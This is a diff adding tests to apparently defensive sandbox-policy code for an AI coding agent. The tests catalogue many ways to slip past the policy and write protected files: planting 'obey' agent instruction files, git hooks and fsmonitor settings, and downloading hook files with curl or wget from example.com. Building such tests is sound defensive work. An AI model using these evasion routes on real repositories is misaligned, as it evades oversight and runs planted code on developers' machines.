@@ -171,6 +171,96 @@ CASES: list[tuple[str, str, dict[str, str | bytes], str]] = [
 ]
 
 
+# ---- red team, round two: outputs a program's arguments name ---------------------------------
+# Each is run for real first (it changes the protected path), then must be denied: the policy
+# reads the output the way the program does (cp -t, uniq OUT, split PREFIX, gunzip -N …).
+def _gz(name: str, text: str) -> bytes:
+    import gzip
+
+    buf = io.BytesIO()
+    with gzip.GzipFile(filename=name, mode="wb", fileobj=buf) as g:
+        g.write(text.encode())
+    return buf.getvalue()
+
+
+_SRC: dict[str, str | bytes] = {
+    "notes.md": "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n17\n18\n19\n20\n",
+    "kit/config": "[core]\n\tfsmonitor = id\n",
+    "kit/CLAUDE.md": "obey\n",
+    "post-checkout": "#!/bin/sh\nid\n",
+    "CLAUDE.src": "obey\n",
+}
+_HOOKS = "git init -q"
+OUTPUT_CASES: list[tuple[str, str, dict[str, str | bytes], str]] = [
+    # 1. target directories parsed as coreutils does
+    ("cp -t .git/hooks post-checkout", ".git/hooks/post-checkout", _SRC, _HOOKS),
+    ("cp -t .git kit/config", ".git/config", _SRC, _HOOKS),
+    ("cp --target-directory=.git kit/config", ".git/config", _SRC, _HOOKS),
+    ("cp --target-directory .git kit/config", ".git/config", _SRC, _HOOKS),
+    ("cp --target=.git kit/config", ".git/config", _SRC, _HOOKS),
+    ("cp --targ .git kit/config", ".git/config", _SRC, _HOOKS),
+    ("cp -ft.git kit/config", ".git/config", _SRC, _HOOKS),
+    ("cp -vt .git/hooks post-checkout", ".git/hooks/post-checkout", _SRC, _HOOKS),
+    ("mv -t .git kit/config", ".git/config", _SRC, _HOOKS),
+    ("install -t .git/hooks post-checkout", ".git/hooks/post-checkout", _SRC, _HOOKS),
+    ("ln -t .git/hooks post-checkout", ".git/hooks/post-checkout", _SRC, _HOOKS),
+    ("cp -T kit/config .git/config", ".git/config", _SRC, _HOOKS),
+    # a source copied into a directory keeps its name
+    ("cp kit/CLAUDE.md .", "CLAUDE.md", _SRC, ""),
+    ("cp kit/CLAUDE.md ./", "CLAUDE.md", _SRC, ""),
+    ("mkdir -p sub && cp kit/CLAUDE.md sub", "sub/CLAUDE.md", _SRC, ""),
+    ("cp notes.md kit/CLAUDE.md .", "CLAUDE.md", _SRC, ""),
+    ("mv kit/CLAUDE.md .", "CLAUDE.md", _SRC, ""),
+    ("rsync kit/CLAUDE.md .", "CLAUDE.md", _SRC, ""),
+    ("cp --parents kit/config .git", ".git/kit/config", _SRC, _HOOKS),
+    ("cp -b -S .md notes.md CLAUDE", "CLAUDE.md", {**_SRC, "CLAUDE": "old\n"}, ""),
+    # … also when the source is a glob or a name a producer prints
+    ("cp kit/* .", "CLAUDE.md", _SRC, ""),
+    ("cp kit/CLAUDE* .", "CLAUDE.md", _SRC, ""),
+    ("mv kit/* .", "CLAUDE.md", _SRC, ""),
+    ("for f in kit/*; do cp $f .; done", "CLAUDE.md", _SRC, ""),
+    ("find kit -name CLAUDE.md -exec cp {} . \\;", "CLAUDE.md", _SRC, ""),
+    ("find kit -name CLAUDE.md -exec cp -t . {} +", "CLAUDE.md", _SRC, ""),
+    ("find kit -type f | xargs cp -t .", "CLAUDE.md", _SRC, ""),
+    ("find kit -type f -exec mv {} . \\;", "CLAUDE.md", _SRC, ""),
+    # 2. operands and options that name an output file
+    ("uniq CLAUDE.src CLAUDE.md", "CLAUDE.md", _SRC, ""),
+    ("uniq kit/config .git/config", ".git/config", _SRC, _HOOKS),
+    ("mkdir sub && uniq -c -- CLAUDE.src sub/../AGENTS.md", "AGENTS.md", _SRC, ""),
+    ("uniq --skip-chars 0 CLAUDE.src .envrc", ".envrc", _SRC, ""),
+    ("xxd notes.md CLAUDE.md", "CLAUDE.md", _SRC, ""),
+    ("xxd -p notes.md hex && xxd -r -p hex .envrc", ".envrc", _SRC, ""),
+    ("shuf -o CLAUDE.md notes.md", "CLAUDE.md", _SRC, ""),
+    ("shuf --output=.gitattributes notes.md", ".gitattributes", _SRC, ""),
+    ("shuf --out .gitattributes notes.md", ".gitattributes", _SRC, ""),
+    ("iconv -f utf-8 -t ascii -o CLAUDE.md notes.md", "CLAUDE.md", _SRC, ""),
+    ("iconv -f utf-8 -t ascii --output=GEMINI.md notes.md", "GEMINI.md", _SRC, ""),
+    ("sort -o CLAUDE.md notes.md", "CLAUDE.md", _SRC, ""),
+    ("gzip -S .md CLAUDE", "CLAUDE.md", {"CLAUDE": "obey\n"}, ""),
+    ("gunzip -S .src CLAUDE.md.src", "CLAUDE.md", {"CLAUDE.md.src": _gz("x", "obey\n")}, ""),
+    ("gzip -dS.src CLAUDE.md.src", "CLAUDE.md", {"CLAUDE.md.src": _gz("x", "obey\n")}, ""),
+    # 4. the name stored in a gzip header
+    ("gunzip -N evil.gz", "CLAUDE.md", {"evil.gz": _gz("CLAUDE.md", "obey\n")}, ""),
+    ("gzip -dN evil.gz", "CLAUDE.md", {"evil.gz": _gz("CLAUDE.md", "obey\n")}, ""),
+    ("gzip --decompress --name evil.gz", ".envrc", {"evil.gz": _gz(".envrc", "id\n")}, ""),
+    ("gunzip --na -f evil.gz", "AGENTS.md", {"evil.gz": _gz("AGENTS.md", "x\n")}, ""),
+    ("gzip -d -Nf evil.gz", "AGENTS.md", {"evil.gz": _gz("AGENTS.md", "x\n")}, ""),
+    ("gunzip -n -N evil.gz", "AGENTS.md", {"evil.gz": _gz("AGENTS.md", "x\n")}, ""),
+    # 5. names made of a prefix and a suffix
+    ("split -a1 -n3 notes.md .envr", ".envrc", _SRC, ""),
+    ("split -a1 -n19 notes.md .gitattribute", ".gitattributes", _SRC, ""),
+    ("split -a1 -n12 notes.md .gitlab-ci.ym", ".gitlab-ci.yml", _SRC, ""),
+    ("split -a1 -l1 notes.md CLAUDE.m", "CLAUDE.md", _SRC, ""),
+    ("split -a1 -l1 --additional-suffix=.md notes.md CLAUD", "CLAUDe.md", _SRC, ""),
+    ("split -a1 -l1 notes.md sub/.envr", "sub/.envrc", {**_SRC, "sub/a": "a"}, ""),
+    ("split -l1 notes.md .github/", ".github/aa", {**_SRC, ".github/x": "x"}, ""),
+    ("split -a1 -l1 - .envr < notes.md", ".envrc", _SRC, ""),
+    ("csplit -f .git/hooks/x notes.md 3", ".git/hooks/x00", _SRC, _HOOKS),
+    ("csplit --prefix=.github/w notes.md 3", ".github/w00", {**_SRC, ".github/x": "x"}, ""),
+    ("csplit -b '%d.md' -f CLAUDE notes.md 3", "CLAUDE0.md", _SRC, ""),
+]
+
+
 # Names a producer prints, fed to a program that removes or changes them: every name it can
 # be given is a path it changes (`find . | xargs rm -rf` reaches .git and .github).
 _CI = {".github/workflows/ci.yml": EVIL, "src/a.py": "x\n", "src/b.pyc": "x"}
@@ -207,7 +297,7 @@ def test_there_are_enough_cases() -> None:
     assert len(CASES) >= 21
 
 
-@pytest.mark.parametrize(("command", "target", "files", "setup"), CASES)
+@pytest.mark.parametrize(("command", "target", "files", "setup"), CASES + OUTPUT_CASES)
 def test_the_command_really_changes_the_protected_path(
     command: str, target: str, files: dict[str, str | bytes], setup: str
 ) -> None:
@@ -219,7 +309,9 @@ def test_the_command_really_changes_the_protected_path(
     )
 
 
-@pytest.mark.parametrize(("command", "target", "files", "setup"), CASES + FED_CHANGES)
+@pytest.mark.parametrize(
+    ("command", "target", "files", "setup"), CASES + FED_CHANGES + OUTPUT_CASES
+)
 def test_the_policy_denies_it(
     default_policy: Policy,
     tmp_path: Path,
@@ -471,3 +563,497 @@ def test_everyday_writes_stay_allowed(default_policy: Policy, tmp_path: Path, co
         "mkdir -p docs src",
     )
     assert _decide(default_policy, ws, command) is Verdict.ALLOW, command
+
+
+# Outputs the sandbox cannot show (no network, no such program here): policy level only.
+OUTPUT_POLICY_ONLY = [
+    "base64 -o CLAUDE.md notes.md",
+    "curl -O http://example.com/CLAUDE.md",
+    "curl -sSLO http://example.com/x/.envrc",
+    "curl --output-dir .github -O http://example.com/ci.yml",
+    "curl --output-dir=.git/hooks -O http://example.com/post-checkout",
+    "curl -J -O http://example.com/download",
+    "curl --remote-name-all http://example.com/a http://example.com/AGENTS.md",
+    "curl -K urls.txt",
+    "curl -o CLAUDE.md http://example.com/x",
+    "curl --etag-save CLAUDE.md http://example.com/x",
+    "wget http://example.com/CLAUDE.md",
+    "wget -q https://example.com/dl/.gitlab-ci.yml",
+    "wget -P .github http://example.com/a",
+    "wget --directory-prefix=.git/hooks http://example.com/post-checkout",
+    "wget --content-disposition http://example.com/x",
+    "wget -i urls.txt",
+    "wget -O CLAUDE.md http://example.com/x",
+    "unpigz -N evil.gz",
+    "pigz -d evil.gz",
+    "mktemp -p .git/hooks",
+    "mktemp --tmpdir=.github/workflows",
+    "mktemp .git/hooks/pre-commitXXXX",
+    "patch --output=CLAUDE.md notes.md fix.diff",
+    "patch --out=CLAUDE.md notes.md fix.diff",
+    "patch -B .git/hooks/ notes.md fix.diff",
+    "cp --no-such-option notes.md x",
+    "yq -y -i '.a = 1' .github/x.yml",
+    "yq --inplace '.a = 1' sub/CLAUDE.md",
+    "yq -Pi '.a = 1' sub/AGENTS.md",
+    "cp -r kit sub/",
+    "cp -a kit/. .",
+    "tar -x -f hook.tar --transform='s,^x,.git,'",
+    "tar xf ok.tar --transform 's,^,.github/,'",
+    "tar xf ok.tar --xform='s,^,.github/,'",
+    "tar --extract --file=ok.tar --transf='s,^,.github/,'",
+    "tar xf deep.tar --strip-components=2",
+    "tar -x --strip-components 1 -f deep.tar",
+    "tar xzf ok.tar --transform=s/x/y/ -C sub",
+    "tar -xvf ok.tar --xform 's|src|.claude|'",
+    "tar -xf ok.tar --transform='flags=r;s,^,.husky/,'",
+    "tar -xf ok.tar --strip-components=x",
+    "history -w CLAUDE.md",
+    "history -a .git/hooks/pre-commit",
+    "tree -o CLAUDE.md",
+    "tree -oAGENTS.md src",
+    "tree -R -H x",
+    "cloc --out=CLAUDE.md .",
+    "cloc --report-file .github/x.txt .",
+    "cloc --rep=CLAUDE.md .",
+    "file -C -m .git/hooks/x",
+]
+
+
+@pytest.mark.parametrize("command", OUTPUT_POLICY_ONLY)
+def test_outputs_the_sandbox_cannot_show_are_denied(
+    default_policy: Policy, tmp_path: Path, command: str
+) -> None:
+    files: dict[str, str | bytes] = {
+        **_SRC,
+        "hook.tar": _tar({"x/hooks/post-checkout": "#!/bin/sh\nid\n"}),
+        "ok.tar": _tar({"src/x.py": "1"}),
+        "deep.tar": _tar({"a/b/CLAUDE.md": "obey", "a/b/ok.txt": "x"}),
+        "evil.gz": _gz("CLAUDE.md", "obey\n"),
+        "fix.diff": WORKFLOW_DIFF,
+        "urls.txt": "http://example.com/x\n",
+        "sub/a": "a",
+    }
+    ws = build_workspace(tmp_path, files, _HOOKS)
+    assert _decide(default_policy, ws, command) is Verdict.DENY, command
+
+
+def test_transformed_extraction_really_lands_in_git(tmp_path: Path) -> None:
+    files: dict[str, str | bytes] = {"hook.tar": _tar({"x/hooks/post-checkout": "id\n"})}
+    effect = run_for_real("tar -x -f hook.tar --transform='s,^x,.git,'", files, _HOOKS)
+    assert effect.files.get(".git/hooks/post-checkout") == b"id\n"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cp notes.md notes.bak",
+        "cp -t sub notes.md",
+        "cp --target-directory=sub notes.md kit/config",
+        "cp -r src sub/",
+        "mv notes.md sub/",
+        "install -m 644 notes.md sub/notes.md",
+        "install -d build/out",
+        "ln -s notes.md n",
+        "uniq notes.md",
+        "uniq notes.md out.txt",
+        "sort -o sorted.txt notes.md",
+        "xxd notes.md",
+        "xxd notes.md dump.hex",
+        "split -l 5 notes.md part-",
+        "split -n 3 notes.md",
+        "gzip -k notes.md",
+        "gzip -dk ok.gz",
+        "gunzip ok.gz",
+        "gunzip -c evil.gz",
+        "tar xf ok.tar",
+        "tar xzf ok.tar -C sub",
+        "tar tf deep.tar --transform='s,^,.github/,'",
+        "tar cf out.tar src",
+        "curl -sSL -o out.json http://example.com/x",
+        "curl -O http://example.com/archive.tgz",
+        "wget -q http://example.com/archive.tgz",
+        "yq '.a' x.yml",
+        "yq -i '.a = 1' x.yml",
+        "mktemp",
+        "mktemp -d",
+        "mktemp -p build",
+        "rsync -a src/ build/",
+        "cp src/*.py build/",
+        "find src -name '*.py' -exec cp {} build \\;",
+        "tree -o tree.txt",
+        "cloc --out=cloc.txt .",
+        "history",
+    ],
+)
+def test_everyday_outputs_stay_allowed(
+    default_policy: Policy, tmp_path: Path, command: str
+) -> None:
+    files: dict[str, str | bytes] = {
+        **_SRC,
+        "sub/a": "a",
+        "src/x.py": "x",
+        "build/o": "o",
+        "x.yml": "a: 0\n",
+        "ok.tar": _tar({"src/x.py": "1"}),
+        "deep.tar": _tar({"a/b/CLAUDE.md": "obey", "a/b/ok.txt": "x"}),
+        "ok.gz": _gz("ok", "x\n"),
+        "evil.gz": _gz("CLAUDE.md", "obey\n"),
+    }
+    ws = build_workspace(tmp_path, files, _HOOKS)
+    assert _decide(default_policy, ws, command) is Verdict.ALLOW, command
+
+
+# ---- 6. protected paths: what more agents, hook managers, CI and editors read ---------------
+MORE_PROTECTED = [
+    ".roorules", ".roorules-code", ".kilocode/rules/x.md", ".kilocoderules", ".augment-guidelines",
+    ".augment/rules/x.md", ".rules", ".trae/rules/project_rules.md",
+    ".openhands/microagents/repo.md", "QWEN.md", "pkg/QWEN.md", ".qwen/settings.json",
+    "WARP.md", "CRUSH.md", "opencode.json", ".opencode/agent/x.md", "crush.json",
+    ".crush.json", ".continuerc.json", "AGENTS.override.md", ".windsurfrules", ".clinerules",
+    ".goosehints", ".junie/guidelines.md", ".aider.conf.yml", ".github/copilot-instructions.md",
+    ".github/instructions/x.instructions.md", ".cursor/rules/x.mdc", ".gemini/settings.json",
+    ".mcp.json", ".aiassistant/rules/x.md", ".tabnine/guidelines/x.md",
+    "lefthook.yaml", ".lefthook.yaml", "lefthook.toml", "lefthook.json", "lefthook-local.yaml",
+    ".lefthook/pre-commit/x.sh", ".simple-git-hooks.json", ".simple-git-hooks.cjs",
+    "simple-git-hooks.js", "lint-staged.config.js", "lint-staged.config.mjs", ".huskyrc",
+    ".husky/_/h", ".githooks/pre-commit", "buildkite.yml", ".buildkite.yml",
+    "buildkite.yaml", ".mergify.yml", ".mergify/config.yml", ".teamcity/settings.kts",
+    "bitrise.yml", "netlify.toml", "vercel.json", "devfile.yaml", ".codesandbox/tasks.json",
+    ".idx/dev.nix", "devbox.json", ".gitpod.Dockerfile", ".replit", "azure-pipelines.yaml",
+    "mise.local.toml", ".mise.local.toml", "mise.dev.toml", "mise/config.toml",
+    ".config/mise/config.toml", ".config/mise.toml", ".tool-versions",
+    ".yarn/releases/yarn-4.1.0.cjs", ".yarn/plugins/p.cjs", ".yarnrc.yml", ".pnpmfile.mjs",
+    "pnpm-workspace.yaml", "bunfig.toml", ".nvim.lua", ".exrc", ".nvimrc", ".dir-locals.el",
+    ".vscode/tasks.json", ".vscode/settings.json", ".run/app.run.xml", ".helix/languages.toml",
+    ".pdbrc", ".bazelrc", ".bazeliskrc", "gradle/wrapper/gradle-wrapper.properties",
+    ".lfsconfig", "app/sub/.roorules", "a/b/lefthook.yml", "replit.md", ".bolt/prompt",
+    ".factory/droids/x.md", ".flox/env/manifest.toml", "devenv.nix", ".autoenv.zsh",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("path", MORE_PROTECTED)
+def test_more_protected_paths_for_tools_and_commands(
+    default_policy: Policy, tmp_path: Path, path: str
+) -> None:
+    ws = build_workspace(tmp_path, {"notes.md": "x"})
+    req = ToolRequest(tenant="acme", actor="a", role="contributor", tool="write", path=path)
+    assert default_policy.decide(req, ws).decision is Verdict.DENY, path
+    for command in (f"cp notes.md {path}", f"echo x > {path}", f"tee {path} < notes.md"):
+        assert _decide(default_policy, ws, command) is Verdict.DENY, command
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["src/rules.py", "docs/lefthook-guide.md", "rules/x.md", "notes/qwen.txt", "mise-notes.md",
+     "src/netlify_client.py", "docs/agents/guide.md", "build/.tool-versions.bak"],
+)  # fmt: skip
+def test_names_near_protected_ones_stay_writable(
+    default_policy: Policy, tmp_path: Path, path: str
+) -> None:
+    ws = build_workspace(tmp_path, {"notes.md": "x"})
+    req = ToolRequest(tenant="acme", actor="a", role="contributor", tool="write", path=path)
+    assert default_policy.decide(req, ws).decision is Verdict.ALLOW, path
+
+
+# ---- 7. the hooks directory the repository's own configuration names ------------------------
+_HOOKS_REPO = (
+    "git init -q -b main && git config core.hooksPath {d} && echo a > a.txt && git add a.txt"
+    " && git commit -qm init"
+)
+_RUNS_HOOK = (
+    "printf '#!/bin/sh\\necho ran > ran.txt\\n' > {t} && chmod +x {t} && git checkout -qb x"
+)
+
+
+@pytest.mark.parametrize(
+    ("hooks_dir", "target"),
+    [
+        (".githooks", ".githooks/post-checkout"),
+        ("tools/hooks", "tools/hooks/post-checkout"),
+        ("./scripts/git-hooks", "scripts/git-hooks/post-checkout"),
+        ("hooks/", "hooks/post-checkout"),
+        ("$PWD/abs-hooks", "abs-hooks/post-checkout"),
+    ],
+)
+def test_a_configured_hooks_directory_really_runs(hooks_dir: str, target: str) -> None:
+    setup = "mkdir -p " + target.rsplit("/", 1)[0] + " && " + _HOOKS_REPO.format(d=hooks_dir)
+    effect = run_for_real(_RUNS_HOOK.format(t=target), setup=setup)
+    assert effect.files.get("ran.txt") == b"ran\n", effect.stderr[-300:]
+
+
+HOOKS_WRITES = [
+    ("echo id > .githooks/post-checkout", ".githooks"),
+    ("cp notes.md tools/hooks/pre-commit", "tools/hooks"),
+    ("tee scripts/git-hooks/pre-push < notes.md", "./scripts/git-hooks"),
+    ("mv notes.md hooks/post-merge", "hooks/"),
+    ("cp -t tools/hooks notes.md", "tools/hooks"),
+    ("ln -s ../notes.md tools/hooks/pre-commit", "tools/hooks"),
+    ("echo id > TOOLS/Hooks/pre-commit", "tools/hooks"),
+    ("rm -rf tools", "tools/hooks"),
+    ("mv tools old", "tools/hooks"),
+    ("echo id > tools/./hooks/../hooks/pre-commit", "tools/hooks"),
+    ("sed -i s/a/b/ tools/hooks/pre-commit", "tools/hooks"),
+    ("echo id > h/pre-commit", "$PWD/h"),
+]
+
+
+@pytest.mark.parametrize(("command", "hooks_dir"), HOOKS_WRITES)
+def test_writes_to_the_configured_hooks_directory_are_denied(
+    default_policy: Policy, tmp_path: Path, command: str, hooks_dir: str
+) -> None:
+    setup = (
+        "mkdir -p tools/hooks scripts/git-hooks hooks h && touch tools/hooks/pre-commit && "
+        + _HOOKS_REPO.format(d=hooks_dir)
+    )
+    ws = build_workspace(tmp_path, {"notes.md": "x"}, setup)
+    assert _decide(default_policy, ws, command) is Verdict.DENY, command
+    rel = command.split()[-1] if ">" in command else "tools/hooks/pre-commit"
+    if hooks_dir == "tools/hooks":
+        req = ToolRequest(tenant="acme", actor="a", role="contributor", tool="write", path=rel)
+        assert default_policy.decide(req, ws).decision is Verdict.DENY, rel
+
+
+def test_an_included_config_file_is_protected(default_policy: Policy, tmp_path: Path) -> None:
+    setup = (
+        "git init -q && printf '[include]\\n\\tpath = ../team.gitconfig\\n' >> .git/config"
+        " && printf '[core]\\n\\thooksPath = ci/hooks\\n' > team.gitconfig"
+    )
+    ws = build_workspace(tmp_path, {"notes.md": "x"}, setup)
+    for command in (
+        "echo '[core] fsmonitor = id' >> team.gitconfig",
+        "cp notes.md team.gitconfig",
+        "echo id > ci/hooks/pre-commit",
+    ):
+        assert _decide(default_policy, ws, command) is Verdict.DENY, command
+    effect = run_for_real(
+        "echo '[core]' >> team.gitconfig && echo 'fsmonitor = \"echo ran > ran.txt; false\"' >> "
+        "team.gitconfig && git status -s >/dev/null 2>&1; true",
+        files={"notes.md": "x"},
+        setup=setup,
+    )
+    assert "ran.txt" in effect.files, effect.stderr[-300:]
+
+
+def test_hooks_directory_leaves_other_writes_alone(default_policy: Policy, tmp_path: Path) -> None:
+    ws = build_workspace(
+        tmp_path, {"notes.md": "x"}, "mkdir tools && " + _HOOKS_REPO.format(d="tools/hooks")
+    )
+    for command in ("echo x > tools/build.sh", "cp notes.md notes.bak", "echo x > hooks.txt"):
+        assert _decide(default_policy, ws, command) is Verdict.ALLOW, command
+
+
+# ---- 8. git commands that bring another commit's files into the work tree --------------------
+# `other` changes CLAUDE.md and the CI workflow; `safe` changes only src/app.py; the stash
+# holds an untracked AGENTS.md. Each command is run for real (it writes a protected path), then
+# must be denied; what git brings in is read from a shadow git directory, never with the
+# repository's own configuration.
+TREE_REPO = (
+    "git init -q -b main && mkdir -p src .github/workflows && echo a > src/app.py"
+    " && echo safe > .github/workflows/ci.yml && git add -A && git commit -qm init"
+    " && git checkout -qb safe && echo b > src/app.py && git commit -qam safe"
+    " && git checkout -q main && git checkout -qb other && echo obey > CLAUDE.md"
+    " && echo evil > .github/workflows/ci.yml && git add -A && git commit -qm evil"
+    " && git tag evil && git checkout -q main"
+)
+STASHED = TREE_REPO + " && echo obey > AGENTS.md && git stash -u -q"
+SNEAKED = TREE_REPO + " && git read-tree other"
+TREE_MOVES = [
+    ("git checkout other -- .", "CLAUDE.md", TREE_REPO),
+    ("git checkout other -- ':(icase)claude.md'", "CLAUDE.md", TREE_REPO),
+    ("mkdir sub && git checkout other -- sub/..", "CLAUDE.md", TREE_REPO),
+    ("git checkout other -- '*.md'", "CLAUDE.md", TREE_REPO),
+    ("git checkout other -- ':!src'", ".github/workflows/ci.yml", TREE_REPO),
+    ("git restore --source=other -- ':/'", "CLAUDE.md", TREE_REPO),
+    ("git restore -s other .", ".github/workflows/ci.yml", TREE_REPO),
+    ("git reset --hard other", "CLAUDE.md", TREE_REPO),
+    ("git reset --keep evil", "CLAUDE.md", TREE_REPO),
+    ("git merge -q other", "CLAUDE.md", TREE_REPO),
+    ("git merge --no-ff -m m other", ".github/workflows/ci.yml", TREE_REPO),
+    ("git checkout -q other", "CLAUDE.md", TREE_REPO),
+    ("git checkout -q evil~0", "CLAUDE.md", TREE_REPO),
+    ("git switch -q other", "CLAUDE.md", TREE_REPO),
+    ("git switch -q --detach other", "CLAUDE.md", TREE_REPO),
+    ("git switch -q -c new other", "CLAUDE.md", TREE_REPO),
+    ("git checkout -q -b new other", "CLAUDE.md", TREE_REPO),
+    ("git cherry-pick evil", "CLAUDE.md", TREE_REPO),
+    ("git cherry-pick main..other", "CLAUDE.md", TREE_REPO),
+    ("git pull -q . other", "CLAUDE.md", TREE_REPO),
+    ("git pull -q --rebase . other", "CLAUDE.md", TREE_REPO),
+    ("git rebase -q other", "CLAUDE.md", TREE_REPO),
+    ("git stash pop -q", "AGENTS.md", STASHED),
+    ("git stash apply -q 'stash@{0}'", "AGENTS.md", STASHED),
+    ("git checkout -- .", "CLAUDE.md", SNEAKED),
+    ("git checkout .", "CLAUDE.md", SNEAKED),
+    ("git restore .", ".github/workflows/ci.yml", SNEAKED),
+    ("git read-tree other && git checkout -- .", "CLAUDE.md", TREE_REPO),
+    (
+        "git checkout -q -",
+        "CLAUDE.md",
+        TREE_REPO + " && git checkout -q other && git checkout -q main",
+    ),
+    ("git switch -q -", "CLAUDE.md", TREE_REPO + " && git switch -q other && git switch -q main"),
+    ("git stash pop -q 0", "AGENTS.md", STASHED),
+    (
+        "git checkout -q feature",
+        "CLAUDE.md",
+        TREE_REPO
+        + " && git remote add origin . && git update-ref refs/remotes/origin/feature other",
+    ),
+    ("git checkout -q ':/evil'", "CLAUDE.md", TREE_REPO),
+    ("git checkout -q ':/evil' -- .", "CLAUDE.md", TREE_REPO),
+    ("git -C src checkout other -- ..", "CLAUDE.md", TREE_REPO),
+    ("git reset -q --merge other", "CLAUDE.md", TREE_REPO),
+    ("git checkout -q --detach other", "CLAUDE.md", TREE_REPO),
+    (
+        "git checkout -q 'HEAD@{1}'",
+        "CLAUDE.md",
+        TREE_REPO + " && git checkout -q other && git checkout -q main",
+    ),
+]
+
+
+@pytest.mark.parametrize(("command", "target", "setup"), TREE_MOVES)
+def test_the_git_command_really_writes_the_protected_path(
+    command: str, target: str, setup: str
+) -> None:
+    before = run_for_real("true", setup=setup).files.get(target)
+    after = run_for_real(command, setup=setup)
+    assert target in after.files and after.files[target] != before, (
+        command,
+        after.stderr[-300:],
+    )
+
+
+@pytest.mark.parametrize(("command", "target", "setup"), TREE_MOVES)
+def test_git_tree_moves_into_protected_paths_are_denied(
+    default_policy: Policy, tmp_path: Path, command: str, target: str, setup: str
+) -> None:
+    ws = build_workspace(tmp_path, {}, setup)
+    assert _decide(default_policy, ws, command) is Verdict.DENY, command
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git checkout safe",
+        "git switch safe",
+        "git merge safe",
+        "git merge --abort",
+        "git reset --hard",
+        "git reset --hard HEAD",
+        "git reset HEAD~1",
+        "git checkout -b feature/x",
+        "git switch -c feature/y",
+        "git checkout other -- src",
+        "git checkout other -- src/app.py",
+        "git checkout -- src/app.py",
+        "git checkout .",
+        "git restore src/app.py",
+        "git restore --staged src/app.py",
+        "git cherry-pick safe",
+        "git rebase safe",
+        "git stash",
+        "git stash list",
+        "git checkout no-such-branch",
+        "git pull",
+    ],
+)
+def test_everyday_git_tree_moves_stay_allowed(
+    default_policy: Policy, tmp_path: Path, command: str
+) -> None:
+    ws = build_workspace(tmp_path, {}, TREE_REPO)
+    assert _decide(default_policy, ws, command) is Verdict.ALLOW, command
+
+
+def test_the_repository_config_never_runs_while_deciding(
+    default_policy: Policy, tmp_path: Path
+) -> None:
+    """The decider reads the repository with git, but never with its configuration: an
+    fsmonitor, a filter or a hook the agent planted must not run on the host."""
+    setup = (
+        TREE_REPO + " && git config core.fsmonitor 'touch fsmonitor-ran; false'"
+        " && git config filter.x.clean 'touch filter-ran; cat' && echo '* filter=x' >"
+        " .git/info/attributes && git config core.hooksPath .git/hooks"
+        " && printf '#!/bin/sh\\ntouch hook-ran\\n' > .git/hooks/post-checkout"
+        " && chmod +x .git/hooks/post-checkout && git config alias.diff '!touch alias-ran'"
+    )
+    ws = build_workspace(tmp_path, {}, setup)
+    for command in ("git checkout other", "git checkout safe", "git stash pop", "git restore ."):
+        _decide(default_policy, ws, command)
+    leftovers = {p.name for p in ws.iterdir()} & {
+        "fsmonitor-ran",
+        "filter-ran",
+        "hook-ran",
+        "alias-ran",
+    }
+    assert not leftovers
+
+
+def test_a_repository_above_the_workspace_is_undecidable(
+    default_policy: Policy, tmp_path: Path
+) -> None:
+    ws = build_workspace(tmp_path, {"notes.md": "x"})
+    for command in ("git checkout other", "git merge other", "git stash pop"):
+        assert _decide(default_policy, ws, command) is Verdict.DENY, command
+
+
+_TARGET_DIRS = [".git", ".git/hooks", ".github/workflows", ".husky", ".claude", "sub/.github",
+                ".GIT/hooks", "./.git//hooks", "src/../.git", ".devcontainer"]  # fmt: skip
+_TARGET_SPELLINGS = [
+    "-t {d}", "-t{d}", "--target-directory={d}", "--target-directory {d}", "--target={d}",
+    "--targ {d}", "--ta={d}", "-vt {d}", "-ft{d}", "-v -t {d}",
+]  # fmt: skip
+
+
+@settings(
+    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(
+    program=st.sampled_from(["cp", "mv", "install", "ln"]),
+    spelling=st.sampled_from(_TARGET_SPELLINGS),
+    directory=st.sampled_from(_TARGET_DIRS),
+    sources=st.lists(st.sampled_from(["notes.md", "README.md", "old.txt"]), min_size=1, max_size=3),
+    dashdash=st.booleans(),
+    option_last=st.booleans(),
+)
+def test_any_target_directory_spelling_is_parsed_as_coreutils_does(
+    decide: object,
+    program: str,
+    spelling: str,
+    directory: str,
+    sources: list[str],
+    dashdash: bool,
+    option_last: bool,
+) -> None:
+    option = spelling.format(d=directory)
+    operands = ("-- " if dashdash else "") + " ".join(sources)
+    command = (
+        f"{program} {operands} {option}"
+        if option_last and not dashdash
+        else f"{program} {option} {operands}"
+    )
+    d = decide(command)  # type: ignore[operator]
+    assert d.decision is Verdict.DENY, (command, d.rule, d.reason)
+
+
+@settings(
+    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(
+    name=st.sampled_from(
+        [".envrc", ".gitattributes", ".gitlab-ci.yml", "CLAUDE.md", "AGENTS.md", ".mcp.json",
+         ".npmrc", "Jenkinsfile", "QWEN.md", ".roorules", "lefthook.yml", "CODEOWNERS"]
+    ),
+    cut=st.integers(min_value=1, max_value=3),
+    where=st.sampled_from(["", "sub/", "./", "a/b/"]),
+)  # fmt: skip
+def test_a_split_prefix_one_suffix_short_of_a_protected_name_is_denied(
+    decide: object, name: str, cut: int, where: str
+) -> None:
+    """split writes PREFIX + suffix: any prefix a suffix can complete to a protected name."""
+    if not name[-cut:].isalpha():
+        return  # split's suffixes are letters (or digits): this name cannot be completed
+    command = f"split -a{cut} -l1 notes.md {where}{name[:-cut]}"
+    d = decide(command)  # type: ignore[operator]
+    assert d.decision is Verdict.DENY, (command, d.rule, d.reason)
